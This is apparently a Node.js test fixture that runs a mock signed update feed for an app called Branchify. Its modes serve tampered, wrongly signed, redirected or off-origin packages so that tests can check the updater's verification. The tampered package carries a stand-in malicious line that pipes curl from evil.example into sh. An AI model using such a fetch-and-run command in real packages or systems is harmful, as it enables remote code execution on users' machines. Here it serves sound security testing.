'use strict';
/**
 * A vendor update feed for the suites, speaking the protocol in docs/api.md ("Update feed").
 * Packages (tar.gz, made with `tar`) are built on demand for the release version the tests set;
 * each is signed with an Ed25519 key generated at start (its public key goes to the app through
 * UPDATE_PUBLIC_KEY). Modes make it misbehave:
 *   good           the signed package as built
 *   tampered       the feed announces the signed hash but serves different bytes
 *   bad-signature  the hash is signed with another key
 *   down           every request answers 503
 *   elsewhere      the feed announces a package_url on another origin (`/_control/mode { mode, target }`)
 *   redirect       the package download answers 302 to another origin (`target`)
 *
 *   POST /feed                    { license_key, current_version } -> { version, package_url, sha256, signature }
 *   GET  /packages/<version>.tar.gz   needs X-License-Key
 *   POST /_control/release        { version } (builds it if needed)
 *   POST /_control/mode           { mode }
 *   GET  /_control/state          { mode, version, requests }
 */
const nodeCrypto = require('node:crypto');
const fs = require('node:fs');
const http = require('node:http');
const os = require('node:os');
const path = require('node:path');
const tar = require('tar');

const REVOKED_KEY = 'REVOKED-0000';

const sha256 = (buffer) => nodeCrypto.createHash('sha256').update(buffer).digest('hex');
const signedMessage = (version, hash) => Buffer.from(`branchify-update:${version}:${hash}`, 'utf8');

async function buildPackage(workDir, version, extra = '') {
  const root = fs.mkdtempSync(path.join(workDir, `pkg-${version}-`));
  fs.mkdirSync(path.join(root, 'server'), { recursive: true });
  fs.writeFileSync(path.join(root, 'package.json'), JSON.stringify({ name: 'branchify', version }, null, 2));
  fs.writeFileSync(path.join(root, 'README.md'), `Branchify ${version}\n${extra}`);
  fs.writeFileSync(path.join(root, 'server', 'index.js'), `module.exports = ${JSON.stringify(version)};\n`);
  const file = path.join(workDir, `branchify-${version}-${nodeCrypto.randomBytes(4).toString('hex')}.tar.gz`);
  await tar.c({ gzip: true, file, cwd: root, portable: true }, ['package.json', 'README.md', 'server']);
  return fs.readFileSync(file);
}

async function startUpdateFeed({ version = '2.1.0' } = {}) {
  const workDir = fs.mkdtempSync(path.join(os.tmpdir(), 'branchify-feed-'));
  const vendor = nodeCrypto.generateKeyPairSync('ed25519');
  const impostor = nodeCrypto.generateKeyPairSync('ed25519');
  const publicKeyPem = vendor.publicKey.export({ type: 'spki', format: 'pem' }).toString();

  const packages = new Map();
  const state = { mode: 'good', version, requests: [], target: null };

  const release = async (v) => {
    if (!packages.has(v)) {
      const good = await buildPackage(workDir, v);
      const tampered = await buildPackage(workDir, v, 'require("child_process").exec("curl evil.example | sh")');
      packages.set(v, { good, tampered, sha256: sha256(good) });
    }
    state.version = v;
    return packages.get(v);
  };
  await release(version);

  const server = http.createServer((req, res) => {
    const send = (status, body, type = 'application/json') => {
      res.writeHead(status, { 'content-type': type });
      res.end(type === 'application/json' ? JSON.stringify(body) : body);
    };
    const chunks = [];
    req.on('data', (c) => chunks.push(c));
    req.on('end', () => {
      const url = req.url.split('?')[0];
      let body = {};
      try {
        body = chunks.length ? JSON.parse(Buffer.concat(chunks).toString('utf8')) : {};
      } catch {
        return send(400, { error: 'invalid json' });
      }
      Promise.resolve()
        .then(async () => {
          if (url.startsWith('/_control/')) {
            if (req.method === 'POST' && url === '/_control/mode') {
              state.mode = body.mode;
              state.target = body.target ?? null;
            } else if (req.method === 'POST' && url === '/_control/release') await release(body.version);
            else if (req.method === 'POST' && url === '/_control/reset') state.requests.length = 0;
            else if (!(req.method === 'GET' && url === '/_control/state')) return send(404, { error: 'no such control route' });
            return send(200, { mode: state.mode, version: state.version, requests: state.requests });
          }
          state.requests.push({ method: req.method, url, license_key: body.license_key ?? req.headers['x-license-key'] ?? null });
          if (state.mode === 'down') return send(503, { error: 'maintenance' });
          if (req.method === 'POST' && url === '/feed') {
            if (!body.license_key || body.license_key === REVOKED_KEY) return send(403, { error: 'license key not valid' });
            const pkg = packages.get(state.version);
            const signer = state.mode === 'bad-signature' ? impostor.privateKey : vendor.privateKey;
            return send(200, {
              version: state.version,
              package_url: state.mode === 'elsewhere' ? state.target : `/packages/${state.version}.tar.gz`,
              sha256: pkg.sha256,
              signature: nodeCrypto.sign(null, signedMessage(state.version, pkg.sha256), signer).toString('base64'),
            });
          }
          const match = /^\/packages\/(\d+\.\d+\.\d+)\.tar\.gz$/.exec(url);
          if (req.method === 'GET' && match && packages.has(match[1])) {
            if (!req.headers['x-license-key']) return send(403, { error: 'license key required' });
            if (state.mode === 'redirect') {
              res.writeHead(302, { location: state.target });
              return res.end();
            }
            const pkg = packages.get(match[1]);
            return send(200, state.mode === 'tampered' ? pkg.tampered : pkg.good, 'application/gzip');
          }
          return send(404, { error: 'not found' });
        })
        .catch((error) => send(500, { error: error.message }));
    });
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  const url = `http://127.0.0.1:${server.address().port}`;

  return {
    url,
    feedUrl: `${url}/feed`,
    controlUrl: `${url}/_control`,
    publicKeyPem,
    revokedKey: REVOKED_KEY,
    async stop() {
      await new Promise((resolve) => server.close(() => resolve()));
      fs.rmSync(workDir, { recursive: true, force: true });
    },
  };
}

module.exports = { startUpdateFeed };
